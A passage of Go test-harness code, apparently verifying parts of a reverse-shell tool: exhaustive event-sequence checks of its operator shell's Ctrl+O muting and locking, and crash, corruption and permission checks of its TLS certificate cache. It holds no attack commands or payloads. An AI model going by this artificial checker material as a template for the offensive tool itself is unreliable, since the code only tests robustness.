	res := result{Stats: map[string]int{}}
	seenAt := map[string]int{}
	buf := make([]byte, L)
	copy(buf, prefix)
	var rec func(i int) bool
	rec = func(i int) bool {
		if i == L {
			/* An execution takes milliseconds; one that has not come back
			after 45 s never will (the program has wedged itself):
			that is reported, and the worker ends (its terminal session is
			beyond repair). */
			type outcome struct {
				vs  []c19Viol
				err error
			}
			oc := make(chan outcome, 1)
			evs := string(buf)
			go func() { vs, err := c19Execute(capPath, evs, false); oc <- outcome{vs, err} }()
			var (
				vs  []c19Viol
				err error
			)
			select {
			case o := <-oc:
				vs, err = o.vs, o.err
			case <-time.After(45 * time.Second):
				res.Execs++
				res.Viols = append(res.Viols, c19Viol{Sig: "program-wedged", Events: evs,
					What: fmt.Sprintf("the events %q (O: Ctrl+O, P: chunk, S: status line, J: Ctrl+J, a/b/c: +0.1/1.9/2.1 s, w/W: system clock set): the Shell has not reacted to one of them for 45 s (a key handler, a write or a timer callback never returns)", evs)})
				return false
			}
			if nil != err {
				res.Err = err.Error()
				return false
			}
			res.Execs++
			res.Steps += L
			for _, v := range vs {
				if j, ok := seenAt[v.Sig]; !ok {
					seenAt[v.Sig] = len(res.Viols)
					res.Viols = append(res.Viols, v)
				} else if len(v.Events) < len(res.Viols[j].Events) {
					res.Viols[j] = v
				}
			}
			return true
		}
		for k := 0; k < len(c19Alphabet); k++ {
			buf[i] = c19Alphabet[k]
			if !rec(i + 1) {
				return false
			}
		}
		return true
	}
	if "list" == args[0] {
		/* A list of complete event strings. */
		for _, s := range strings.Split(prefix, ",") {
			L, buf = len(s), []byte(s)
			if !rec(L) {
				break
			}
		}
	} else {
		rec(len(prefix))
	}
	w := bufio.NewWriter(realStdout)
	json.NewEncoder(w).Encode(res)
	w.Flush()
	if "" != res.Err {
		return 2
	}
	return 0
}

// runCttyWorker runs a worker subcommand of this binary with a fresh pty as
// its controlling terminal and returns its standard output.
func runCttyWorker(args ...string) ([]byte, error) { return runCttyWorkerEnv(nil, args...) }

// runCttyWorkerEnv is runCttyWorker in a changed environment: "K=V" sets,
// a bare "K" unsets.
func runCttyWorkerEnv(env []string, args ...string) ([]byte, error) {
	self, err := os.Executable()
	if nil != err {
		return nil, err
	}
	cmd := exec.Command(self, append([]string{"worker"}, args...)...)
	if nil != env {
		cmd.Env = os.Environ()
		for _, e := range env {
			k, _, set := strings.Cut(e, "=")
			cmd.Env = slices.DeleteFunc(cmd.Env, func(x string) bool { return strings.HasPrefix(x, k+"=") })
			if set {
				cmd.Env = append(cmd.Env, e)
			}
		}
	}
	var out strings.Builder
	cmd.Stdout = &out
	cmd.Stderr = os.Stderr
	p, err := ptyrun.StartCtty(cmd)
	if nil != err {
		return nil, err
	}
	defer p.Close()
	st := p.Wait(30 * time.Minute)
	if 0 != st {
		return []byte(out.String()), fmt.Errorf("worker %v exited %d", args, st)
	}
	return []byte(out.String()), nil
}

func c19(r *ev.Result, tier string) {
	L := 6
	if !isQuick(tier) {
		L = 8
	}
	r.Rule = fmt.Sprintf("every event string of length %d over {O: Ctrl+O, P: plain chunk, S: status line, J: Ctrl+J preview, a: +0.1 s, b: +1.9 s, c: +2.1 s} executed on the real opshell.Shell (built by the real New on a pty, Do running, virtual clock), "+
		"the oracle evaluated after every step (so every shorter string is covered as a prefix); states = distinct event prefixes, transitions = steps executed, traces = complete executions", L)
	base := ev.Scratch("c19-")
	defer os.RemoveAll(base)
	/* Shards: every 2-event prefix (3-event in the thorough tier). */
	pl := 2
	if L >= 8 {
		pl = 3
	}
	var prefixes []string
	var gen func(p string)
	gen = func(p string) {
		if len(p) == pl {
			prefixes = append(prefixes, p)
			return
		}
		for _, c := range c19Alphabet {
			gen(p + string(c))
		}
	}
	gen("")
	var mu sync.Mutex
	best := map[string]c19Viol{}
	parallel(len(prefixes), func(i int) {
		out, err := runCttyWorker("c19w", fmt.Sprint(L), prefixes[i], base)
		var res struct {
			Execs int       `json:"execs"`
			Steps int       `json:"steps"`
			Viols []c19Viol `json:"viols"`
			Err   string    `json:"err"`
		}
		if jerr := json.Unmarshal(out, &res); nil != jerr || nil != err || "" != res.Err {
			ev.Broken("c19 worker for prefix %s: %v %v %s %q", prefixes[i], err, jerr, res.Err, trunc80(string(out)))
		}
		mu.Lock()
		r.Evaluations += res.Execs
		r.Traces += res.Execs
		r.Transitions += res.Steps
		mu.Unlock()
		mu.Lock()
		for _, v := range res.Viols {
			if b, ok := best[v.Sig]; !ok || len(v.Events) < len(b.Events) || (len(v.Events) == len(b.Events) && v.Events < b.Events) {
				best[v.Sig] = v
			}
		}
		mu.Unlock()
	})
	/* Beyond the enumeration's length: a flood that goes on for 23 s with
	gaps just below the pause interval (nothing may come through, however
	long it lasts), then calm. */
	/* The system clock set back or forward at every point of every string
	of four events that begins with Ctrl+O (the pause is two seconds of
	calm, whatever the wall clock says meanwhile); each followed by a wait
	and a chunk. */
	var stepped []string
	{
		var gen func(s string)
		gen = func(s string) {
			if 4 == len(s) {
				for pos := 1; pos <= 4; pos++ {
					for _, w := range "wW" {
						stepped = append(stepped, s[:pos]+string(w)+s[pos:]+"cP")
					}
				}
				return
			}
			for _, e := range "OPbc" {
				gen(s + string(e))
			}
		}
		gen("O")
	}
	r.Set("strings_with_a_wall_clock_step", len(stepped))
	longs := []string{"O" + strings.Repeat("bP", 12) + "cP", "O" + strings.Repeat("aP", 30) + "bPcPS"}
	for i := 0; i < len(stepped); i += 64 {
		longs = append(longs, "list:"+strings.Join(stepped[i:min(i+64, len(stepped))], ","))
	}
	for _, long := range longs {
		wargs := []string{"c19w", fmt.Sprint(len(long)), long, base}
		if l, ok := strings.CutPrefix(long, "list:"); ok {
			wargs = []string{"c19w", "list", l, base}
		}
		out, err := runCttyWorker(wargs...)
		var res struct {
			Execs int       `json:"execs"`
			Steps int       `json:"steps"`
			Viols []c19Viol `json:"viols"`
			Err   string    `json:"err"`
		}
		if jerr := json.Unmarshal(out, &res); nil != jerr || nil != err || "" != res.Err {
			ev.Broken("c19 worker for the long flood %s: %v %v %s %q", long, err, jerr, res.Err, trunc80(string(out)))
		}
		r.Evaluations += res.Execs
		r.Traces += res.Execs
		r.Transitions += res.Steps
		for _, v := range res.Viols {
			if b, ok := best[v.Sig]; !ok || len(v.Events) < len(b.Events) {
				best[v.Sig] = v
			}
		}
	}
	for _, v := range best {
		r.Violate(ev.Violation{Signature: v.Sig, What: v.What, Kind: "c19", Replay: map[string]string{"events": v.Events}})
	}
	/* Lock interleavings: Ctrl+O (and Ctrl+I) arriving while output or a
	status line is being written, under every order of the lock steps. */
	scenarios := []string{"KP", "KS", "MKP", "MKS", "KPS", "IK", "IP", "MTP", "MTPS", "MTK", "KKP", "PKK", "MKKP"}
	parallel(len(scenarios), func(i int) {
		out, err := runCttyWorker("c19locks", scenarios[i], base)
		var res struct {
			Schedules int      `json:"schedules"`
			Steps     int      `json:"steps"`
			Problem   string   `json:"problem"`
			Stuck     string   `json:"stuck"`
			Schedule  []string `json:"schedule"`
			Err       string   `json:"err"`
			NA        string   `json:"not_applicable"`
		}
		if jerr := json.Unmarshal(out, &res); nil != jerr || nil != err || "" != res.Err {
			ev.Broken("c19 lock-interleaving worker for %s: %v %v %s %q", scenarios[i], err, jerr, res.Err, trunc80(string(out)))
		}
		mu.Lock()
		r.Evaluations += res.Schedules
		r.Traces += res.Schedules
		r.Transitions += res.Steps
		r.States += res.Steps
		r.Inc("lock_schedules", res.Schedules)
		if "" != res.NA {
			r.Inc("lock_scenarios_not_applicable", 1)
		}
		mu.Unlock()
		if "" != res.Problem {
			sig := "lock-interleaving/liveness"
			if "" != res.Stuck {
				sig = "lock-interleaving/deadlock/" + res.Stuck
			}
			r.Violate(ev.Violation{Signature: sig, What: fmt.Sprintf("operations %q issued together (K: Ctrl+O key, P: shell output, S: status line, I: Ctrl+I, leading M: already muted), lock steps in the order %v: %s", scenarios[i], res.Schedule, res.Problem), Kind: "c19locks", Replay: map[string]any{"scenario": scenarios[i], "schedule": res.Schedule}})
		}
	})
	n := 0
	for k, p := 0, 1; k <= L; k, p = k+1, p*len(c19Alphabet) {
		n += p
	}
	r.States += n
	r.Distinct = r.States
	r.Sample(4, map[string]string{"events": "OPbPaS", "meaning": "Ctrl+O, chunk (suppressed), +1.9 s, chunk (suppressed, re-arms), +0.1 s, status line (shown)"})
	r.Sample(4, map[string]string{"events": "OcPSOO", "meaning": "Ctrl+O, +2.1 s (unmuting announced), chunk (shown), status, Ctrl+O (muting), Ctrl+O (already muted)"})
	r.Assume("Ctrl+O is delivered by invoking the control-character callback the Shell registered with the terminal library (goxterm's key decoding is trusted)")
	/* The real program in real time: Ctrl+O typed on the pty. */
	c19RealBinary(r, base)
	r.Assume("the model is three-valued: between 'pause since the first Ctrl+O of a cycle' and 'pause since the last one', and exactly on a 2.0 s boundary, either state is accepted")
}

func c19Replay(kind string, raw json.RawMessage) int {
	var rp struct {
		Events string `json:"events"`
	}
	if err := json.Unmarshal(raw, &rp); nil != err {
		return 2
	}
	if "1" != os.Getenv("C19_REPLAY_CHILD") {
		/* Re-run ourselves with a controlling terminal. */
		os.Setenv("C19_REPLAY_CHILD", "1")
		base := ev.Scratch("c19r-")
		defer os.RemoveAll(base)
		out, err := runCttyWorker("c19replay", rp.Events, base)
		fmt.Print(string(out))
		if nil != err {
			return 1
		}
		return 0
	}
	return 2
}

func init() {
	workers["c19replay"] = func(args []string) int {
		os.Stdout = realStdout
		vs, err := c19ExecuteTraced(filepath.Join(args[1], "capture"), args[0])
		if nil != err {
			fmt.Fprintln(realStdout, "error:", err)
			return 2
		}
		for _, v := range vs {
			fmt.Fprintln(realStdout, v.Sig, "-", v.What)
		}
		if 0 != len(vs) {
			fmt.Fprintln(realStdout, "reproduced")
			return 1
		}
		fmt.Fprintln(realStdout, "not reproduced")
		return 0
	}
}

// c19ExecuteTraced is c19Execute with a trace (printed once the terminal is
// ours again).
func c19ExecuteTraced(capPath, events string) ([]c19Viol, error) {
	vs, err := c19Execute(capPath, events, false)
	return vs, err
}
