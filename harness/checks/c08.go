package checks

/*
 * C08 — certificate cache: stable identity, safe under torn writes,
 * owner-only.  Built in the "vos" flavour: lib/sstls's import of os is
 * rewritten (in a build overlay) to the verifx/vos shim, which logs every
 * mutating call and can cut the run short before any call or after any number
 * of bytes of WriteFile.  Enumerated: every crash point of the write path,
 * every single-byte damage of a complete file (6 replacement classes), every
 * history of starts / deletions / torn writes to a depth, and every nesting
 * depth of missing directories under two umasks.
 */

import (
	"bytes"
	"crypto/sha256"
	"crypto/tls"
	"crypto/x509"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"net"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"syscall"
	"time"

	"github.com/magisterquis/curlrevshell/lib/sstls"
	"github.com/magisterquis/curlrevshell/verifx/ev"
	"github.com/magisterquis/curlrevshell/verifx/rcall"
	"github.com/magisterquis/curlrevshell/verifx/vos"
)

func init() {
	registry["C08"] = checkDef{level: "fault_enumeration", run: c08, replay: c08Replay}
}

// c08Get calls the real GetCertificate under an optional crash plan.
// c08Panics: panics of the program under test seen by c08Get.
var c08Panics struct {
	sync.Mutex
	seen map[string]string
}

func c08Get(cache string, plan *vos.CrashPlan, after func(vos.Op, string)) (cert tls.Certificate, err error, crashed bool) {
	vos.Reset()
	vos.Plan = plan
	vos.AfterStep = after
	defer func() {
		if p := recover(); nil != p {
			if _, ok := p.(vos.Crash); ok {
				crashed = true
				return
			}
			/* The program itself crashed on what it found (a crash is
			not "the run fails with an error"): noted, reported by c08,
			and treated as a failed run from here on. */
			c08Panics.Lock()
			if nil == c08Panics.seen {
				c08Panics.seen = map[string]string{}
			}
			msg := fmt.Sprint(p)
			if _, dup := c08Panics.seen[msg]; !dup {
				b, _ := os.ReadFile(cache)
				c08Panics.seen[msg] = fmt.Sprintf("cache file of %d bytes beginning %q", len(b), trunc80(string(b)))
			}
			c08Panics.Unlock()
			err = fmt.Errorf("the program panicked: %v", p)
		}
	}()
	cert, err = sstls.GetCertificate("", nil, nil, 0, cache)
	return cert, err, false
}

// c08Serve does a real TLS handshake (in memory) with cert and returns the
// pin of the leaf the client saw.
func c08Serve(cert tls.Certificate) (string, error) {
	cc, sc := net.Pipe()
	defer cc.Close()
	defer sc.Close()
	errc := make(chan error, 1)
	go func() {
		s := tls.Server(sc, &tls.Config{Certificates: []tls.Certificate{cert}})
		errc <- s.Handshake()
	}()
	c := tls.Client(cc, &tls.Config{InsecureSkipVerify: true})
	if err := c.Handshake(); nil != err {
		<-errc
		return "", fmt.Errorf("client handshake: %w", err)
	}
	if err := <-errc; nil != err {
		return "", fmt.Errorf("server handshake: %w", err)
	}
	st := c.ConnectionState()
	if 0 == len(st.PeerCertificates) {
		return "", fmt.Errorf("no certificate presented")
	}
	return c08KeyID(st.PeerCertificates[0]), nil
}

// c08KeyID identifies the public KEY of a certificate (hash of the
// re-marshalled parsed key).  The raw SubjectPublicKeyInfo bytes are not used:
// Go's parser accepts some non-canonical encodings (a damaged length byte),
// which changes the raw bytes but not the key, and the statement is about the
// key.
func c08KeyID(cert *x509.Certificate) string {
	b, err := x509.MarshalPKIXPublicKey(cert.PublicKey)
	if nil != err {
		return "unmarshalable:" + err.Error()
	}
	h := sha256.Sum256(b)
	return base64.StdEncoding.EncodeToString(h[:])
}

type c08Case struct {
	Kind   string `json:"kind"` /* crash | damage | history | dirs */
	AtOp   int    `json:"at_op,omitempty"`
	Bytes  int    `json:"bytes,omitempty"`
	Offset int    `json:"offset,omitempty"`
	Repl   string `json:"replacement,omitempty"`
	Hist   string `json:"history,omitempty"`
	Depth  int    `json:"depth,omitempty"`
	Umask  int    `json:"umask,omitempty"`
}

// c08Region names the part of a cache file an offset lies in.
func c08Region(file []byte, off int) string {
	s := string(file)
	ci := strings.Index(s, "-- cert --")
	ki := strings.Index(s, "-- key --")
	switch {
	case off < ci:
		return "comment"
	case off < ci+len("-- cert --\n"):
		return "cert-marker"
	case off < ki:
		return "cert-pem"
	case off < ki+len("-- key --\n"):
		return "key-marker"
	}
	return "key-pem"
}

func c08(r *ev.Result, tier string) {
	quick := isQuick(tier)
	base := ev.Scratch("c08-")
	defer os.RemoveAll(base)
	v := func(sig, what string, c c08Case) {
		r.Violate(ev.Violation{Signature: sig, What: what, Kind: "c08", Replay: c})
	}
	defer func() {
		c08Panics.Lock()
		defer c08Panics.Unlock()
		for _, pn := range rcall.TakePanics() {
			if nil == c08Panics.seen {
				c08Panics.seen = map[string]string{}
			}
			if _, dup := c08Panics.seen[pn.Value]; !dup {
				c08Panics.seen[pn.Value] = "cache handed to sstls.Listen / hsrv.New (the Listen-level and server-level seams); stack: " + trunc300(pn.Stack)
			}
		}
		for msg, where := range c08Panics.seen {
			r.Violate(ev.Violation{Signature: "program-crashed/" + trunc80(msg), What: fmt.Sprintf("sstls.GetCertificate panicked (%s) on a %s: a damaged cache makes the run fail with an error, not crash", msg, where), Kind: "c08seam", Replay: map[string]string{"panic": msg, "cache": where}})
		}
	}()
	oldMask := syscall.Umask(0o022)
	defer syscall.Umask(oldMask)

	/* A generating run, to learn the write path. */
	cache0 := filepath.Join(base, "probe", "sub", "cert.txtar")
	cert0, err, _ := c08Get(cache0, nil, nil)
	if nil != err {
		/* The very first start, on a cache path two directories below
		anything that exists, does not work: that is the first clause of
		the property ("a missing file is simply regenerated"). */
		v("generating-run-failed", fmt.Sprintf("the first start on a fresh cache path (two missing directory levels) failed: %v", err), c08Case{Kind: "dirs"})
		return
	}
	if 0 == len(vos.Log) {
		ev.Broken("the vos shim is not linked into lib/sstls (wrong build flavour)")
	}
	log0 := append([]vos.Op{}, vos.Log...)
	var opKinds []string
	for _, op := range log0 {
		opKinds = append(opKinds, op.Kind)
	}
	r.Set("write_path_ops", opKinds)
	file0, _ := os.ReadFile(cache0)
	pin0, err := c08Serve(cert0)
	if nil != err {
		ev.Broken("handshake with a fresh certificate: %s", err)
	}

	/* (a) every crash point. */
	nCrash := 0
	for opi, op := range log0 {
		points := []int{-1}
		if "WriteFile" == op.Kind {
			for k := 0; k <= op.N; k++ {
				points = append(points, k)
			}
		}
		for _, k := range points {
			dir := filepath.Join(base, fmt.Sprintf("crash-%d-%d", opi, k))
			cache := filepath.Join(dir, "sub", "cert.txtar")
			cs := c08Case{Kind: "crash", AtOp: opi, Bytes: k}
			_, err, crashed := c08Get(cache, &vos.CrashPlan{AtOp: opi, Bytes: k}, nil)
			nCrash++
			if !crashed {
				if nil != err {
					v("crash/run-failed", fmt.Sprintf("crash plan op %d bytes %d: the run failed by itself: %v", opi, k, err), cs)
				}
				/* The write was complete before the planned point. */
			}
			/* What the interrupted run was writing. */
			var wrote []byte
			for _, o := range vos.Log {
				if "WriteFile" == o.Kind {
					wrote = o.Data
				}
			}
			before, statErr := os.ReadFile(cache)
			existed := nil == statErr
			/* Recovery: a fresh run on the same directory. */
			cert, err, _ := c08Get(cache, nil, nil)
			mutated := ""
			for _, o := range vos.Log {
				if o.Path == cache || o.To == cache {
					mutated = o.Kind
				}
			}
			if existed {
				after, _ := os.ReadFile(cache)
				if "" != mutated || !bytes.Equal(before, after) {
					v("crash/existing-file-rewritten", fmt.Sprintf("write cut after %d of %d bytes (op %d): the next run rewrote the existing cache file (%s)", k, op.N, opi, mutated), cs)
				}
			}
			if nil == err {
				pin, herr := c08Serve(cert)
				switch {
				case nil != herr:
					v("crash/unusable-key", fmt.Sprintf("write cut after %d of %d bytes: the next run started but cannot complete a handshake: %v", k, op.N, herr), cs)
				case existed && nil != wrote:
					/* The key the interrupted run generated. */
					orig := c08PinFromFile(wrote)
					if "" != orig && pin != orig {
						v("crash/different-key", fmt.Sprintf("write cut after %d of %d bytes: the next run silently serves another key than the one in the (incomplete) cache", k, op.N), cs)
					}
				}
			}
			os.RemoveAll(dir)
		}
	}
	r.Set("crash_points", nCrash)

	/* (b) every single-byte damage. */
	repls := []struct {
		name string
		f    func(byte) byte
	}{
		{"flip-bit0", func(b byte) byte { return b ^ 1 }},
		{"flip-bit7", func(b byte) byte { return b ^ 0x80 }},
		{"newline", func(byte) byte { return '\n' }},
		{"dash", func(byte) byte { return '-' }},
		{"A", func(byte) byte { return 'A' }},
		{"NUL", func(byte) byte { return 0 }},
		{"plus-one", func(b byte) byte { return b + 1 }},
		{"minus-one", func(b byte) byte { return b - 1 }},
		{"flip-bit1", func(b byte) byte { return b ^ 2 }},
		{"flip-bit2", func(b byte) byte { return b ^ 4 }},
		{"flip-bit3", func(b byte) byte { return b ^ 8 }},
		{"flip-bit4", func(b byte) byte { return b ^ 16 }},
		{"flip-bit5", func(b byte) byte { return b ^ 32 }},
		{"0", func(byte) byte { return '0' }},
		{"z", func(byte) byte { return 'z' }},
		{"slash", func(byte) byte { return '/' }},
	}
	nDamage, served, failed := 0, 0, 0
	regions := map[string]int{}
	dcache := filepath.Join(base, "damage", "cert.txtar")
	os.MkdirAll(filepath.Dir(dcache), 0o700)
	for off := range file0 {
		for _, rp := range repls {
			nb := rp.f(file0[off])
			if nb == file0[off] {
				continue
			}
			damaged := append([]byte{}, file0...)
			damaged[off] = nb
			os.WriteFile(dcache, damaged, 0o600)
			cs := c08Case{Kind: "damage", Offset: off, Repl: rp.name}
			cert, err, _ := c08Get(dcache, nil, nil)
			nDamage++
			region := c08Region(file0, off)
			regions[region]++
			after, _ := os.ReadFile(dcache)
			if !bytes.Equal(after, damaged) || 0 != len(vos.Log) {
				v("damage/file-rewritten/"+region, fmt.Sprintf("byte %d (%s) replaced by %s: the run modified the cache file (%d mutating calls)", off, region, rp.name, len(vos.Log)), cs)
			}
			if nil != err {
				failed++
				continue
			}
			served++
			pin, herr := c08Serve(cert)
			switch {
			case nil != herr:
				v("damage/unusable-key/"+region, fmt.Sprintf("byte %d (%s) replaced by %s: the run starts but cannot complete a handshake: %v", off, region, rp.name, herr), cs)
			case pin != pin0:
				v("damage/different-key/"+region, fmt.Sprintf("byte %d (%s) replaced by %s: the run serves another key than the one cached", off, region, rp.name), cs)
			}
		}
	}
	r.Set("damages", nDamage)
	r.Set("damages_by_region", regions)
	r.Set("damaged_files_still_served_with_original_key", served)
	r.Set("damaged_files_refused", failed)

	/* (c) histories. */
	depth := 4
	if !quick {
		depth = 6
	}
	/* Above GetCertificate: sstls.Listen, and the server the program's way. */
	c08ListenHistories(r, base)
	c08ServerSeam(r, base, file0, pin0)
	c08WriteErrors(r, base, log0)
	c08PathShapes(r, base)
	c08RealSharedDirs(r, base)
	nHist := c08Histories(r, base, depth, v)
	r.Set("histories", nHist)

	/* (c') restarts of a cache whose certificate has a short life: the
	identity is the file's, whatever the clock says. */
	for _, life := range []time.Duration{time.Nanosecond, time.Second, time.Hour} {
		dir, _ := os.MkdirTemp(base, "life-")
		cache := filepath.Join(dir, "cert.txtar")
		cs := c08Case{Kind: "history", Hist: fmt.Sprintf("start(lifespan %v) start start", life)}
		vos.Reset()
		c1, err := sstls.GetCertificate("", nil, nil, life, cache)
		if nil != err {
			v("lifespan/generate-failed", err.Error(), cs)
			continue
		}
		time.Sleep(2 * time.Millisecond)
		before, _ := os.ReadFile(cache)
		for k := 0; k < 2; k++ {
			vos.Reset()
			c2, err := sstls.GetCertificate("", nil, nil, life, cache)
			after, _ := os.ReadFile(cache)
			switch {
			case nil != err:
				v("lifespan/restart-failed", fmt.Sprintf("lifespan %v: restart %d on the cache fails: %v", life, k+1, err), cs)
			case !bytes.Equal(before, after) || 0 != len(vos.Log):
				v("lifespan/existing-file-rewritten", fmt.Sprintf("lifespan %v: restart %d rewrote the existing cache file", life, k+1), cs)
			case c08KeyID(c2.Leaf) != c08KeyID(c1.Leaf):
				v("lifespan/identity-changed", fmt.Sprintf("lifespan %v: restart %d presents another key than the run that created the file", life, k+1), cs)
			}
		}
		nHist++
		os.RemoveAll(dir)
	}

	/* (d) nesting x umask, modes at every step. */
	nDirs := 0
	for _, um := range []int{0, 0o022, 0o077} {
		syscall.Umask(um)
		for d := 0; d <= 4; d++ {
			root := filepath.Join(base, fmt.Sprintf("dirs-%o-%d", um, d))
			os.MkdirAll(root, 0o755)
			p := root
			for i := 0; i < d; i++ {
				p = filepath.Join(p, fmt.Sprintf("n%d", i))
			}
			cache := filepath.Join(p, "cert.txtar")
			cs := c08Case{Kind: "dirs", Depth: d, Umask: um}
			check := func(op vos.Op, step string) {
				/* Everything the run created so far is owner-only. */
				filepath.Walk(root, func(path string, fi os.FileInfo, err error) error {
					if nil != err || path == root {
						return nil
					}
					if 0 != fi.Mode().Perm()&0o077 {
						v("mode/"+map[bool]string{true: "directory", false: "file"}[fi.IsDir()], fmt.Sprintf("nesting %d, umask %o: after %s (%s) %s has mode %o", d, um, op.Kind, step, strings.TrimPrefix(path, root), fi.Mode().Perm()), cs)
					}
					return nil
				})
			}
			_, err, _ := c08Get(cache, nil, check)
			if nil != err {
				v("dirs/run-failed", fmt.Sprintf("nesting %d, umask %o: %v", d, um, err), cs)
			}
			check(vos.Op{Kind: "end"}, "end")
			nDirs++
		}
	}
	syscall.Umask(0o022)
	r.Set("directory_cases", nDirs)

	r.Evaluations = nCrash + nDamage + nHist + nDirs
	r.Distinct = r.Evaluations
	r.Rule = fmt.Sprintf("(a) every crash point of the write path %v: before each mutating call and after every byte count 0..n of WriteFile, each followed by a recovery run and a real (in-memory) TLS handshake; "+
		"(b) every byte offset of a complete cache file x 16 replacements (every single-bit flip of the low six bits and the top bit, +1, -1, and six fixed characters), by region (comment, cert marker, cert PEM, key marker, key PEM); (c) every history of <=%d operations over {start, start without cache, delete cache, torn write at 3 lengths}; "+
		"(d) nesting depth 0..4 of missing directories x umask {0, 022, 077} with modes checked after every step", opKinds, depth)
	r.Sample(4, c08Case{Kind: "crash", AtOp: len(log0) - 1, Bytes: len(file0) / 2})
	r.Sample(4, c08Case{Kind: "damage", Offset: len(file0) - 40, Repl: "flip-bit0"})
	r.Sample(4, c08Case{Kind: "history", Hist: "start torn-mid start delete start"})
	r.Assume("a crash is modelled as the process stopping at a call boundary or inside WriteFile after k bytes, with everything written so far durable (no reordering of the single write)")
	r.Assume("txtar.ParseFile reads the cache through the real os package (only lib/sstls's own os calls go through the shim)")
}

// c08PinFromFile extracts the pin of the certificate in (possibly
// incomplete) cache bytes, or "".
func c08PinFromFile(b []byte) string {
	dir, err := os.MkdirTemp(filepath.Join(ev.Dir(), ".build", "tmp"), "c08pin-")
	if nil != err {
		return ""
	}
	defer os.RemoveAll(dir)
	p := filepath.Join(dir, "c.txtar")
	os.WriteFile(p, b, 0o600)
	cert, err := sstls.LoadCachedCertificate(p)
	if nil != err || nil == cert.Leaf {
		return ""
	}
	return c08KeyID(cert.Leaf)
}

// c08Histories explores every history of operations on one cache path.
func c08Histories(r *ev.Result, base string, depth int, v func(string, string, c08Case)) int {
	ops := []string{"start", "start-nocache", "delete", "torn-0", "torn-mid", "torn-almost"}
	n := 0
	var rec func(hist []string)
	rec = func(hist []string) {
		if 0 != len(hist) {
			n++
			c08RunHistory(base, hist, v)
		}
		if len(hist) == depth {
			return
		}
		for _, op := range ops {
			/* Prune: histories are only interesting up to the first error
			state being left again; keep everything, it is cheap enough
			to depth 5, and beyond that skip repeats of the same op. */
			if len(hist) >= 4 && op == hist[len(hist)-1] {
				continue
			}
			rec(append(hist, op))
		}
	}
	rec(nil)
	return n
}

func c08RunHistory(base string, hist []string, v func(string, string, c08Case)) {
	dir, _ := os.MkdirTemp(base, "hist-")
	defer os.RemoveAll(dir)
	cache := filepath.Join(dir, "c", "cert.txtar")
	cs := c08Case{Kind: "history", Hist: strings.Join(hist, " ")}
	modelPin := "" /* Pin of the key in a complete cache file; "" if none. */
	torn := false  /* The file exists but is incomplete. */
	tornPin := ""  /* Pin of the key the interrupted run was saving. */
	for i, op := range hist {
		where := fmt.Sprintf("history %q, step %d (%s)", cs.Hist, i+1, op)
		switch op {
		case "delete":
			os.Remove(cache)
			modelPin, torn, tornPin = "", false, ""
		case "start-nocache":
			cert, err, _ := c08Get("", nil, nil)
			if nil != err {
				v("history/nocache-failed", where+": "+err.Error(), cs)
			} else if _, herr := c08Serve(cert); nil != herr {
				v("history/unusable-key", where+": "+herr.Error(), cs)
			}
			if 0 != len(vos.Log) {
				v("history/nocache-touches-files", fmt.Sprintf("%s: a run without a cache made %d mutating calls", where, len(vos.Log)), cs)
			}
		case "start":
			before, rerr := os.ReadFile(cache)
			cert, err, _ := c08Get(cache, nil, nil)
			after, _ := os.ReadFile(cache)
			if nil == rerr && !bytes.Equal(before, after) {
				v("history/existing-file-rewritten", where+": the existing cache file was rewritten", cs)
			}
			switch {
			case torn:
				/* Either an error, or the key the interrupted run was saving. */
				if nil == err {
					if pin, herr := c08Serve(cert); nil != herr || pin != tornPin {
						v("history/torn-cache-other-key", fmt.Sprintf("%s: started on an incomplete cache file and presents %q (handshake error %v), the interrupted run was saving %q", where, pin, herr, tornPin), cs)
					}
				}
			case "" != modelPin:
				if nil != err {
					v("history/complete-cache-refused", where+": "+err.Error(), cs)
				} else if pin, herr := c08Serve(cert); nil != herr || pin != modelPin {
					v("history/identity-changed", fmt.Sprintf("%s: the run presents %q (handshake error %v), the cache holds %q", where, pin, herr, modelPin), cs)
				}
			default:
				if nil != err {
					v("history/missing-cache-not-regenerated", where+": "+err.Error(), cs)
				} else if pin, herr := c08Serve(cert); nil != herr {
					v("history/unusable-key", where+": "+herr.Error(), cs)
				} else {
					modelPin = pin
					if p := c08PinFromFile(after); p != pin {
						v("history/cache-differs-from-served", where+": the key written to the cache is not the key served", cs)
					}
				}
			}
		default: /* torn-* : a run whose write is cut */
			if "" != modelPin || torn {
				/* The file exists: a run would load (or refuse) it and never
				write; a torn write can only happen when generating. */
				continue
			}
			/* Find the write op and its size by a dry generating run elsewhere. */
			probe := filepath.Join(dir, "probe", "cert.txtar")
			c08Get(probe, nil, nil)
			wi, wn := -1, 0
			for j, o := range vos.Log {
				if "WriteFile" == o.Kind {
					wi, wn = j, o.N
				}
			}
			os.RemoveAll(filepath.Dir(probe))
			if wi < 0 {
				continue /* A write path without WriteFile: crash enumeration (a) covers call boundaries. */
			}
			k := map[string]int{"torn-0": 0, "torn-mid": wn / 2, "torn-almost": wn - 2}[op]
			c08Get(cache, &vos.CrashPlan{AtOp: wi, Bytes: k}, nil)
			torn = true
			tornPin = ""
			for _, o := range vos.Log {
				if "WriteFile" == o.Kind {
					tornPin = c08PinFromFile(o.Data)
				}
			}
		}
	}
}

func c08Replay(kind string, raw json.RawMessage) int {
	if "c08seam" == kind || "c08listen" == kind || "c08server" == kind || "c08werr" == kind || "c08path" == kind {
		fmt.Println("findings of the Listen-level and server-level seams are replayed by re-running ./run C08 quick; the history or the damage is in the artefact")
		return 2
	}
	var c c08Case
	if err := json.Unmarshal(raw, &c); nil != err {
		return 2
	}
	base := ev.Scratch("c08r-")
	defer os.RemoveAll(base)
	r := ev.New("C08", "quick", "fault_enumeration")
	v := func(sig, what string, c c08Case) {
		fmt.Println(sig, "-", what)
		r.Violate(ev.Violation{Signature: sig, What: what})
	}
	switch c.Kind {
	case "history":
		c08RunHistory(base, strings.Fields(c.Hist), v)
	case "crash":
		cache := filepath.Join(base, "sub", "cert.txtar")
		_, err, crashed := c08Get(cache, &vos.CrashPlan{AtOp: c.AtOp, Bytes: c.Bytes}, nil)
		b, _ := os.ReadFile(cache)
		fmt.Printf("interrupted run: err=%v crashed=%v, cache file now %d bytes\n", err, crashed, len(b))
		cert, err, _ := c08Get(cache, nil, nil)
		b2, _ := os.ReadFile(cache)
		fmt.Printf("recovery run: err=%v, %d mutating calls, cache file now %d bytes (changed: %v)\n", err, len(vos.Log), len(b2), !bytes.Equal(b, b2))
		if nil == err {
			pin, herr := c08Serve(cert)
